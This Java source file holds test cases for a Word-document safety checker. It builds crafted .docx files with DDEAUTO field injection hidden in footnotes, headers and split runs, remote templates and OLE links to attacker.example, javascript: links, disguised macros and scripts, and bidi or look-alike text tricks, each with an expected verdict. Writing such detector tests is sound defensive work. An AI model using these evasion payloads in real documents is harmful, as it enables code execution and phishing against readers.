package org.rostrum.document.check;

import static org.rostrum.document.safety.Severity.ASK;
import static org.rostrum.document.safety.Severity.REFUSE;
import static org.rostrum.document.safety.Severity.TELL;
import static org.rostrum.document.word.DocxMaker.p;
import static org.rostrum.document.word.DocxMaker.r;

import java.util.ArrayList;
import java.util.List;
import java.util.function.Supplier;
import org.rostrum.document.safety.Severity;
import org.rostrum.document.word.DocxMaker;

/**
 * Ways that no list names: the same attacks in places, spellings and vocabularies where a check
 * might not look.
 */
final class UnlistedAttacks {
  private static final String CLEAN = "Quillaya thanks the Presidency for convening this debate.";
  private static final String HTTP = "http://attacker.example/x";
  private static final String STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships/";
  private static final String OLE = "\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1";

  private final List<Attack> all = new ArrayList<>();

  private UnlistedAttacks() {}

  static List<Attack> all() {
    UnlistedAttacks made = new UnlistedAttacks();
    made.fields();
    made.relations();
    made.links();
    made.programs();
    made.signs();
    return List.copyOf(made.all);
  }

  private void add(int row, String name, Severity verdict, String code, Supplier<byte[]> file) {
    all.add(new Attack(row, name, verdict, code, file));
  }

  private static DocxMaker clean(String... more) {
    return DocxMaker.body(p(CLEAN), String.join("", more));
  }

  private static String begin() {
    return "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
  }

  private static String says(String words) {
    return "<w:r><w:instrText xml:space=\"preserve\">" + words + "</w:instrText></w:r>";
  }

  private static String end() {
    return "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
        + r("shown")
        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
  }

  private static String para(String inside) {
    return "<w:p>" + inside + "</w:p>";
  }

  private static String dde() {
    return para(begin() + says(" DD") + says("EAU") + says("TO cmd ") + end());
  }

  private static String note(String inside) {
    return "<w:footnote w:id=\"2\">" + inside + "</w:footnote>";
  }

  private static String box(String inside) {
    return para(
        "<w:r><w:pict><v:shape style=\"width:100pt;height:100pt\"><v:textbox><w:txbxContent>"
            + inside
            + "</w:txbxContent></v:textbox></v:shape></w:pict></w:r>");
  }

  private static String choice(String first, String other) {
    return "<mc:AlternateContent><mc:Choice Requires=\"x\">"
        + first
        + "</mc:Choice><mc:Fallback>"
        + other
        + "</mc:Fallback></mc:AlternateContent>";
  }

  private void fields() {
    add(
        9,
        "DDEAUTO in a footnote",
        REFUSE,
        "field-dde",
        () -> clean().footnotes(note(dde())).bytes());
    add(
        9,
        "DDEAUTO in an endnote",
        REFUSE,
        "field-dde",
        () -> clean().endnotes("<w:endnote w:id=\"2\">" + dde() + "</w:endnote>").bytes());
    add(9, "DDEAUTO in a header", REFUSE, "field-dde", () -> clean().header(1, dde()).bytes());
    add(
        9,
        "DDEAUTO in a comment",
        REFUSE,
        "field-dde",
        () -> clean().comments("<w:comment w:id=\"0\">" + dde() + "</w:comment>").bytes());
    add(9, "DDEAUTO in a box", REFUSE, "field-dde", () -> clean(box(dde())).bytes());
    add(
        9,
        "DDEAUTO in a text module",
        REFUSE,
        "field-dde",
        () -> {
          DocxMaker maker = clean();
          return maker
              .relation("g", "glossaryDocument", "glossary/document.xml")
              .part("word/glossary/document.xml", maker.root("glossaryDocument", dde()))
              .bytes();
        });
    add(
        9,
        "DDEAUTO over two paragraphs",
        REFUSE,
        "field-dde",
        () -> clean(para(begin() + says("DDE")), para(says("AUTO cmd") + end())).bytes());
    add(
        9,
        "DDEAUTO parted by deleted words",
        REFUSE,
        "field-dde",
        () ->
            clean(
                    para(
                        begin()
                            + says(" D")
                            + "<w:del w:id=\"1\" w:author=\"a\"><w:r><w:delInstrText>x</w:delInstrText></w:r></w:del>"
                            + says("DEAUTO cmd ")
                            + end()))
                .bytes());
    add(
        9,
        "DDEAUTO in what only an older Word reads",
        REFUSE,
        "field-dde",
        () ->
            clean(
                    para(
                        begin()
                            + says(" D")
                            + "<w:r>"
                            + choice(
                                "<w:instrText>zz</w:instrText>",
                                "<w:instrText>DEAUTO cmd </w:instrText>")
                            + "</w:r>"
                            + end()))
                .bytes());
    add(
        9,
        "DDEAUTO in a table's cell, in fldSimple",
        REFUSE,
        "field-dde",
        () ->
            clean(
                    "<w:tbl><w:tr><w:tc>"
                        + para(
                            "<w:fldSimple w:instr=\" ddeauto cmd \">" + r("x") + "</w:fldSimple>")
                        + "</w:tc></w:tr></w:tbl>")
                .bytes());
    add(
        9,
        "DDEAUTO never ended",
        REFUSE,
        "field-dde",
        () -> clean(para(begin() + says("DDEAUTO cmd"))).bytes());
    add(
        9,
        "DDEAUTO in an IF",
        REFUSE,
        "field-dde",
        () ->
            clean(
                    para(
                        begin()
                            + says(" IF 1 = 1 \"")
                            + begin()
                            + says("DDEAUTO cmd")
                            + end()
                            + says("\" ")
                            + end()))
                .bytes());
    add(
        9,
        "DDEAUTO with entities for letters",
        REFUSE,
        "field-dde",
        () -> clean(para(begin() + says(" &#x44;&#68;E&#65;UTO cmd") + end())).bytes());
    add(9, "DDEAUTO under Strict", REFUSE, "field-dde", () -> clean(dde()).strict().bytes());
    add(
        9,
        "DDEAUTO in a part nobody relates to",
        REFUSE,
        "field-dde",
        () -> {
          DocxMaker maker = clean();
          return maker.part("word/lost.xml", maker.root("document", dde())).bytes();
        });
    add(
        10,
        "INCLUDEPICTURE in a table's cell, in fldSimple",
        REFUSE,
        "field-fetch",
        () ->
            clean(
                    "<w:tbl><w:tr><w:tc>"
                        + para(
                            "<w:fldSimple w:instr=\" INCLUDEPICTURE &quot;"
                                + HTTP
                                + "&quot; \\d \">"
                                + r("x")
                                + "</w:fldSimple>")
                        + "</w:tc></w:tr></w:tbl>")
                .bytes());
    add(
        10,
        "INCLUDETEXT whose address another field makes",
        REFUSE,
        "field-fetch",
        () ->
            clean(
                    para(
                        begin()
                            + says(" INCLUDETEXT \"")
                            + begin()
                            + says(" QUOTE \"http://attacker.example/\" ")
                            + end()
                            + says("\" ")
                            + end()))
                .bytes());
    add(
        10,
        "INCLUDEPICTURE with a switch before its address",
        REFUSE,
        "field-fetch",
        () ->
            clean(para(begin() + says(" INCLUDEPICTURE \\* MERGEFORMAT \\d " + HTTP + " ") + end()))
                .bytes());
    add(
        10,
        "INCLUDEPICTURE of single quotation marks",
        REFUSE,
        "field-fetch",
        () ->
            clean(para(begin() + says(" INCLUDEPICTURE 'http://attacker.example/x' ") + end()))
                .bytes());
    add(
        10,
        "IMPORT from a folder of the web",
        REFUSE,
        "field-fetch",
        () ->
            clean(para(begin() + says(" IMPORT \\\\\\\\host@SSL\\\\DavWWWRoot\\\\a.png ") + end()))
                .bytes());
    add(
        10,
        "a link in a field to another machine",
        TELL,
        "link-removed",
        () ->
            clean(para(begin() + says(" HYPERLINK \\l x \"\\\\\\\\host\\\\a\" ") + end())).bytes());
  }

  private void relations() {
    for (String type :
        List.of("oleObject", "frame", "subDocument", "aFChunk", "attachedTemplate")) {
      add(
          type.equals("attachedTemplate") ? 7 : 6,
          "an outside " + type + " in the vocabulary of Strict",
          REFUSE,
          type.equals("attachedTemplate") ? "remote-template" : "outside-source",
          () ->
              clean()
                  .part("word/_rels/document.xml.rels", rels(rel(STRICT + type, HTTP, "External")))
                  .bytes());
    }
    add(
        6,
        "an outside main document beside the right one",
        REFUSE,
        "outside-source",
        () ->
            clean()
                .part(
                    "_rels/.rels",
                    rels(
                        "<Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>"
                            + rel(
                                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument",
                                HTTP,
                                "External")))
                .bytes());
    add(
        6,
        "a style sheet from outside",
        REFUSE,
        "outside-source",
        () -> clean().outside("x", "styles", HTTP).bytes());
    add(
        6,
        "a relation of a header's",
        REFUSE,
        "outside-source",
        () ->
            clean()
                .header(1, p("x"))
                .part(
                    "word/_rels/header1.xml.rels",
                    rels(rel("http://x/oleObject", "//host/share/x", "External")))
                .bytes());
    add(
        6,
        "a relation's address with blanks before it",
        REFUSE,
        "outside-source",
        () -> clean().relation("x", "oleObject", "&#9; &#10;http://attacker.example/x").bytes());
    add(
        6,
        "an address of mhtml",
        REFUSE,
        "outside-source",
        () ->
            clean()
                .outside(
                    "x",
                    "oleObject",
                    "mhtml:http://attacker.example/x!x-usc:http://attacker.example/x")
                .bytes());
    add(
        6,
        "a video on the web, by its page",
        REFUSE,
        "outside-source",
        () ->
            clean(
                    para(
                        "<w:r><w:drawing><wp:inline><wp:extent cx=\"914400\" cy=\"914400\"/><wp:docPr id=\"1\" name=\"v\"><a:extLst><a:ext uri=\"{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}\"><wp15:webVideoPr xmlns:wp15=\"http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing\" embeddedHtml=\"&lt;iframe src=&quot;http://attacker.example&quot;&gt;\"/></a:ext></a:extLst></wp:docPr></wp:inline></w:drawing></w:r>"))
                .bytes());
    add(
        6,
        "a picture of a shape's fill from outside",
        TELL,
        "outside-picture",
        () ->
            clean(
                    para(
                        "<w:r><w:pict><v:shape style=\"width:9pt;height:9pt\"><v:fill src=\"http://attacker.example/x.png\" o:althref=\"http://attacker.example/y\"/></v:shape></w:pict></w:r>"))
                .bytes());
    add(
        6,
        "a picture linked, not embedded",
        TELL,
        "outside-picture",
        () ->
            clean(
                    para(
                        "<w:r><w:drawing><wp:inline><wp:extent cx=\"914400\" cy=\"914400\"/><wp:docPr id=\"1\" name=\"v\"/><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:pic><pic:blipFill><a:blip r:link=\"x\"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"))
                .outside("x", "image", "file://host/share/a.png")
                .bytes());
    add(
        7,
        "a template by the settings under Strict",
        REFUSE,
        "remote-template",
        () ->
            clean()
                .settings("<w:attachedTemplate r:id=\"x\"/>")
                .part(
                    "word/_rels/settings.xml.rels",
                    rels(
                        rel(
                            STRICT + "attachedTemplate",
                            "https://attacker.example/a.dotm",
                            "External")))
                .strict()
                .bytes());
    add(
        7,
        "a template on a drive of the web",
        REFUSE,
        "remote-template",
        () ->
            clean()
                .settings("<w:attachedTemplate r:id=\"x\"/>")
                .part(
                    "word/_rels/settings.xml.rels",
                    rels(
                        rel(
                            "http://x/attachedTemplate",
                            "file:///\\\\host@80\\a.dotm",
                            "External")))
                .bytes());
    add(
        14,
        "a base address for links",
        TELL,
        "metadata",
        () ->
            clean()
                .part(
                    "docProps/app.xml",
                    "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\"><HyperlinkBase>\\\\host\\share</HyperlinkBase></Properties>")
                .part(
                    "_rels/.rels",
                    rels(
                        "<Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>"
                            + rel(
                                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties",
                                "docProps/app.xml",
                                "")))
                .bytes());
    add(
        13,
        "altChunk under Strict",
        REFUSE,
        "alt-chunk",
        () ->
            clean("<w:altChunk r:id=\"a\"/>")
                .relation("a", "aFChunk", "a.docx")
                .part("word/a.docx", clean().bytes())
                .strict()
                .bytes());
    add(
        13,
        "a relation of altChunk that no element names",
        REFUSE,
        "alt-chunk",
        () -> clean().relation("a", "aFChunk", "a.txt").part("word/a.txt", "words").bytes());
  }

  private static String rel(String type, String target, String mode) {
    return "<Relationship Id=\"x1\" Type=\""
        + type
        + "\" Target=\""
        + target
        + "\""
        + (mode.isEmpty() ? "" : " TargetMode=\"" + mode + "\"")
        + "/>";
  }

  private static String rels(String inside) {
    return "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        + inside
        + "</Relationships>";
  }

  private void links() {
    add(
        12,
        "a link on a picture",
        ASK,
        "link-dangerous",
        () ->
            clean(
                    para(
                        "<w:r><w:drawing><wp:inline><wp:extent cx=\"914400\" cy=\"914400\"/><wp:docPr id=\"1\" name=\"v\"><a:hlinkClick r:id=\"h\"/></wp:docPr></wp:inline></w:drawing></w:r>"))
                .outside("h", "hyperlink", "java&#9;script:alert(1)")
                .bytes());
    add(
        12,
        "a link on a picture, when the mouse is over it",
        ASK,
        "link-dangerous",
        () ->
            clean(
                    para(
                        "<w:r><w:drawing><wp:inline><wp:extent cx=\"914400\" cy=\"914400\"/><wp:docPr id=\"1\" name=\"v\"><a:hlinkHover r:id=\"h\"/></wp:docPr></wp:inline></w:drawing></w:r>"))
                .outside("h", "hyperlink", "ms-word:ofe|u|http://attacker.example")
                .bytes());
    add(
        12,
        "a link on a shape of VML",
        ASK,
        "link-dangerous",
        () ->
            clean(
                    para(
                        "<w:r><w:pict><v:shape href=\"JAVASCRIPT:alert(1)\" style=\"width:9pt;height:9pt\"/></w:pict></w:r>"))
                .bytes());
    add(
        12,
        "an action on a shape",
        ASK,
        "link-dangerous",
        () ->
            clean(
                    para(
                        "<w:r><w:drawing><wp:inline><wp:extent cx=\"914400\" cy=\"914400\"/><wp:docPr id=\"1\" name=\"v\"><a:hlinkClick r:id=\"\" action=\"ppaction://program?x\"/></wp:docPr></wp:inline></w:drawing></w:r>"))
                .bytes());
    add(
        12,
        "a script as the name of a place",
        ASK,
        "link-dangerous",
        () ->
            clean(
                    para(
                        "<w:hyperlink w:anchor=\"javascript:alert(1)\">"
                            + r("here")
                            + "</w:hyperlink>"))
                .bytes());
    add(
        12,
        "a link whose address turns around",
        REFUSE,
        "bidi-override",
        () ->
            clean(para("<w:hyperlink r:id=\"h\">" + r("here") + "</w:hyperlink>"))
                .outside("h", "hyperlink", "https://example.org/\u202Efdp.exe")
                .bytes());
    add(
        12,
        "a link whose address imitates another",
        ASK,
        "look-alike",
        () ->
            clean(para("<w:hyperlink r:id=\"h\">" + r("here") + "</w:hyperlink>"))
                .outside("h", "hyperlink", "https://www.\u0430mnesty.org/report")
                .bytes());
    add(
        12,
        "a link of a person's data in its address",
        ASK,
        "link-mismatch",
        () ->
            clean(para("<w:hyperlink r:id=\"h\">" + r("www.un.org") + "</w:hyperlink>"))
                .outside("h", "hyperlink", "https://www.un.org:80@attacker.example/")
                .bytes());
  }

  private void programs() {
    add(
        8,
        "macros, every part of the file being declared to be one",
        REFUSE,
        "macro",
        () ->
            clean()
                .part(
                    "[Content_Types].xml",
                    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/vnd.ms-word.document.MacroEnabled.main+xml\"/></Types>")
                .bytes());
    add(
        8,
        "macros by their content alone",
        REFUSE,
        "embedded-object",
        () ->
            clean().part("word/theme/theme7.xml", ZipBytes.latin(OLE + "\0".repeat(600))).bytes());
    add(
        8,
        "macros by a content type alone",
        REFUSE,
        "macro",
        () ->
            clean()
                .part("word/x.bin", "x")
                .part(
                    "[Content_Types].xml",
                    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/><Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>")
                .bytes());
    add(
        8,
        "a template with macros renamed",
        REFUSE,
        "macro",
        () ->
            clean()
                .mainType("application/vnd.ms-word.template.macroEnabledTemplate.main+xml")
                .bytes());
    add(
        8,
        "an object without a relation",
        REFUSE,
        "embedded-object",
        () ->
            clean(
                    para(
                        "<w:r><w:object><o:OLEObject Type=\"Link\" ProgID=\"htmlfile\" r:id=\"none\"/></w:object></w:r>"))
                .bytes());
    add(
        8,
        "an object in a header",
        REFUSE,
        "embedded-object",
        () ->
            clean()
                .header(
                    1,
                    para(
                        "<w:r><w:object><o:OLEObject ProgID=\"Package\" r:id=\"o\"/></w:object></w:r>"))
                .bytes());
    add(
        8,
        "a shortcut to a program",
        REFUSE,
        "foreign-content",
        () ->
            clean()
                .part(
                    "word/media/a.lnk",
                    ZipBytes.latin("L\0\0\0\u0001\u0014\u0002\0\0\0\0\0\u00C0\0\0\0\0\0\0F"))
                .bytes());
    add(
        8,
        "a script for Windows",
        REFUSE,
        "foreign-content",
        () -> clean().part("word/media/a.png", "@echo off\r\ncalc.exe").bytes());
    add(
        8,
        "a help file",
        REFUSE,
        "foreign-content",
        () -> clean().part("word/media/a.dat", "ITSF\3\0\0\0").bytes());
    add(
        14,
        "keys bound to commands",
        TELL,
        "custom-data",
        () ->
            clean()
                .part(
                    "word/customizations.xml",
                    "<wne:tcg xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"><wne:keymaps><wne:keymap wne:kcmPrimary=\"0241\"><wne:macro wne:macroName=\"X\"/></wne:keymap></wne:keymaps></wne:tcg>")
                .part(
                    "word/_rels/document.xml.rels",
                    rels(
                        rel(
                            "http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations",
                            "customizations.xml",
                            "")))
                .bytes());
    add(
        14,
        "a data source under Strict",
        REFUSE,
        "data-source",
        () ->
            clean()
                .settings("<w:mailMerge><w:dataSource r:id=\"x\"/></w:mailMerge>")
                .part(
                    "word/_rels/settings.xml.rels",
                    rels(rel(STRICT + "mailMergeSource", "file://host/x.odc", "External")))
                .strict()
                .bytes());
    add(
        14,
        "a task pane by its relation, named otherwise",
        REFUSE,
        "add-in",
        () ->
            clean()
                .relation("x", "webextensiontaskpanes", "x/y.xml")
                .part("word/x/y.xml", "<x/>")
                .bytes());
  }

  private void signs() {
    add(
        24,
        "words turned around by Word's own element",
        REFUSE,
        "bidi-override",
        () ->
            clean(para(r("We do ") + "<w:bdo w:val=\"rtl\">" + r("ton") + "</w:bdo>" + r(" agree")))
                .bytes());
    add(
        24,
        "an override in a picture's description",
        REFUSE,
        "bidi-override",
        () -> clean(pictured("We do \u202Eton\u202C agree")).picture("p", "a.png", PNG).bytes());
    add(
        24,
        "an override in a footnote",
        REFUSE,
        "bidi-override",
        () ->
            DocxMaker.body(para(r("x") + "<w:r><w:footnoteReference w:id=\"2\"/></w:r>"))
                .footnotes(note(p("We do \u202Eton\u202C agree")))
                .bytes());
    add(
        25,
        "tags in a picture's description",
        ASK,
        "invisible-sign",
        () -> clean(pictured("x\uDB40\uDC68\uDB40\uDC69 y")).picture("p", "a.png", PNG).bytes());
    add(
        25,
        "look-alike letters in a picture's description",
        ASK,
        "look-alike",
        () -> clean(pictured("The p\u0430ypal of States")).picture("p", "a.png", PNG).bytes());
    add(
        25,
        "letters of mathematics as words",
        ASK,
        "look-alike",
        () ->
            clean(
                    p(
                        "The \uD835\uDC12\uD835\uDC1E\uD835\uDC1C\uD835\uDC2E\uD835\uDC2B\uD835\uDC22\uD835\uDC2D\uD835\uDC32 Council"))
                .bytes());
    add(
        25,
        "signs stacked over a letter",
        ASK,
        "stacked-signs",
        () ->
            clean(p("Coun" + "\u0336\u0321\u0489\u035C\u0360\u0358\u0341".repeat(4) + "cil"))
                .bytes());
    add(
        25,
        "a Hangul filler as a blank",
        ASK,
        "invisible-sign",
        () -> clean(p("We\u3164agree")).bytes());
    add(
        25,
        "a sign of zero width in a heading",
        ASK,
        "invisible-sign",
        () -> clean(p("<w:outlineLvl w:val=\"0\"/>", r("Sta\u200Btement"))).bytes());
    add(
        25,
        "a Greek letter in a Latin word",
        ASK,
        "look-alike",
        () -> clean(p("The C\u03BFuncil")).bytes());
    add(
        25,
        "a Cherokee letter in a Latin word",
        ASK,
        "look-alike",
        () -> clean(p("The \u13DEnited Nations")).bytes());
    add(
        25,
        "an Armenian letter in a Latin word",
        ASK,
        "look-alike",
        () -> clean(p("The C\u0585uncil decides")).bytes());
    add(
        19,
        "an override in the title the file gives itself",
        TELL,
        "metadata",
        () ->
            clean()
                .part(
                    "docProps/core.xml",
                    "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>a\u202Eb</dc:title></cp:coreProperties>")
                .part(
                    "_rels/.rels",
                    rels(
                        "<Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>"
                            + rel(
                                "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
                                "docProps/core.xml",
                                "")))
                .bytes());
  }

  static final byte[] PNG =
      java.util.Base64.getDecoder()
          .decode(
              "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");

  private static String pictured(String description) {
    return para(
        "<w:r><w:drawing><wp:inline><wp:extent cx=\"914400\" cy=\"914400\"/><wp:docPr id=\"1\" name=\"v\" descr=\""
            + description
            + "\"/><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:pic><pic:blipFill><a:blip r:embed=\"p\"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>");
  }
}
